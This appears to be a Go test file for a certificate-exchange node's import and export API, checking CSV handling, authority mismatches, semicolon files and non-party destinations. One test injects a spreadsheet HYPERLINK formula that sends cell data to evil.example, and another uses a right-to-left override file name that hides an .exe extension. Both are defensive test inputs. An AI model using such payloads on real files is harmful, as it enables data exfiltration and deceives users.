package api

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"

	"github.com/kpnode/kpnode/node"
)

// TestExportCSVIsInert imports certificates whose exporter is named as a
// spreadsheet formula, exports them through GET /api/exports/certificates,
// and checks that no cell starts a formula, that the exporter reads back
// as imported, and that importing the export again adds nothing (the same
// records).
func TestExportCSVIsInert(t *testing.T) {
	in := pinnedPair(t)
	raw, err := os.ReadFile("../docs/examples/import/certificates.csv")
	if err != nil {
		t.Fatal(err)
	}
	formula := `=HYPERLINK("http://evil.example/?"&A1,"Shree Ram")`
	file := strings.ReplaceAll(string(raw), "Shree Ram Diamonds Pvt Ltd", `"`+strings.ReplaceAll(formula, `"`, `""`)+`"`)
	if code, body := call(t, in, "POST", "/api/imports/certificates?file=certs.csv", testToken, []byte(file)); code != http.StatusOK {
		t.Fatalf("import: %d %s", code, body)
	}
	code, exported := call(t, in, "GET", "/api/exports/certificates?format=csv", testToken, nil)
	if code != http.StatusOK {
		t.Fatalf("export: %d %s", code, exported)
	}
	rows, err := csv.NewReader(bytes.NewReader(exported)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	guarded := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("exported cell %q starts a formula", cell)
			}
			if cell == "'"+formula {
				guarded++
			}
		}
	}
	if guarded == 0 {
		t.Fatalf("the exporter's name is not in the export as '%s:\n%s", formula, exported)
	}
	code, body := call(t, in, "POST", "/api/imports/certificates?dry_run=true&file=export.csv", testToken, exported)
	var res node.ImportResult
	if code != http.StatusOK || json.Unmarshal(body, &res) != nil || res.New != 0 || res.Skipped != res.Records || res.Records == 0 {
		t.Fatalf("re-import of the export: %d %s, want every record already held", code, body)
	}
}

// TestImportNamesRowOfAnotherAuthority checks that the API refuses an
// import of certificates in another authority's name, naming the file,
// row and column.
func TestImportNamesRowOfAnotherAuthority(t *testing.T) {
	be, _ := newTestAPI(t, "BE")
	in, _ := newTestAPI(t, "IN")
	_, card := call(t, in, "GET", "/api/card", testToken, nil)
	if code, body := call(t, be, "POST", "/api/partners", testToken, card); code != http.StatusOK {
		t.Fatalf("add partner: %d %s", code, body)
	}
	raw, err := os.ReadFile("../docs/examples/import/certificates.csv")
	if err != nil {
		t.Fatal(err)
	}
	code, body := call(t, be, "POST", "/api/imports/certificates?to=all&file=certs.csv", testToken, raw)
	var resp struct {
		Error struct {
			Rows []struct {
				File, Column, Reason string
				Row                  int
			}
		}
	}
	if code != http.StatusUnprocessableEntity || json.Unmarshal(body, &resp) != nil || len(resp.Error.Rows) == 0 {
		t.Fatalf("import in IN's name: %d %s", code, body)
	}
	r := resp.Error.Rows[0]
	if r.File != "certs.csv" || r.Row != 2 || r.Column != "issuer" || !strings.HasPrefix(r.Reason, "is IN, but this node is BE's") {
		t.Fatalf("first problem %+v", r)
	}
}

// TestFileParameterRefusesBidi checks that the file name an import or
// export names for errors and the audit log cannot hide its extension.
func TestFileParameterRefusesBidi(t *testing.T) {
	in := pinnedPair(t)
	name := url.QueryEscape("report\u202ecod.exe")
	for _, req := range [][2]string{{"POST", "/api/imports/certificates?dry_run=true&file=" + name}, {"GET", "/api/exports/certificates?file=" + name}} {
		if code, body := call(t, in, req[0], req[1], testToken, nil); code != http.StatusBadRequest || !strings.Contains(string(body), "U+202E") {
			t.Errorf("%s %s: %d %s", req[0], req[1], code, body)
		}
	}
}

// TestImportSpreadsheetFileOneMessage: a semicolon-separated file (what
// European Excel saves) is one problem of the file, and the message
// counts problems and rows as they are.
func TestImportSpreadsheetFileOneMessage(t *testing.T) {
	in := pinnedPair(t)
	raw, err := os.ReadFile("../docs/examples/import/certificates.csv")
	if err != nil {
		t.Fatal(err)
	}
	semi := strings.ReplaceAll(string(raw), ",", ";")
	code, body := call(t, in, "POST", "/api/imports/certificates?to=BE&dry_run=true&file=certs.csv", testToken, []byte(semi))
	var resp struct{ Error Error }
	if code != http.StatusUnprocessableEntity || json.Unmarshal(body, &resp) != nil || len(resp.Error.Rows) != 1 ||
		!strings.Contains(resp.Error.Rows[0].Reason, "semicolons") || resp.Error.Message != "the file has 1 problem in the file; nothing was imported" {
		t.Fatalf("semicolons: %d %s", code, body)
	}
	lines := strings.Split(string(raw), "\n")
	lines[1] = strings.Replace(lines[1], ",7102.31,1520.35,", ",7103.10,lots,", 1)
	code, body = call(t, in, "POST", "/api/imports/certificates?to=BE&dry_run=true&file=certs.csv", testToken, []byte(strings.Join(lines, "\n")))
	if code != http.StatusUnprocessableEntity || json.Unmarshal(body, &resp) != nil || resp.Error.Message != "the file has 2 problems in 1 row; nothing was imported" {
		t.Fatalf("two problems: %d %s", code, body)
	}
}

// TestImportNonPartyNeedsFlag: to=BE for certificates bound elsewhere is
// 422 non_party, nothing written; allow_non_party=true sends them and the
// answer names BE; the default sends each to its destination and warns of
// destinations that are not pinned.
func TestImportNonPartyNeedsFlag(t *testing.T) {
	in := pinnedPair(t)
	raw, err := os.ReadFile("../docs/examples/import/certificates.csv")
	if err != nil {
		t.Fatal(err)
	}
	code, body := call(t, in, "POST", "/api/imports/certificates?to=BE&file=certs.csv", testToken, raw)
	if code != http.StatusUnprocessableEntity || errorCode(t, body) != "non_party" {
		t.Fatalf("to=BE: %d %s", code, body)
	}
	var res node.ImportResult
	code, body = call(t, in, "POST", "/api/imports/certificates?file=certs.csv&dry_run=true", testToken, raw)
	if code != http.StatusOK || json.Unmarshal(body, &res) != nil || len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], "AE (1), CN (1), IL (1)") {
		t.Fatalf("default: %d %s", code, body)
	}
	code, body = call(t, in, "POST", "/api/imports/certificates?to=BE&allow_non_party=true&file=certs.csv", testToken, raw)
	if code != http.StatusOK || json.Unmarshal(body, &res) != nil || len(res.NonParty) != 1 || res.NonParty[0] != "BE" {
		t.Fatalf("allowed: %d %s", code, body)
	}
}
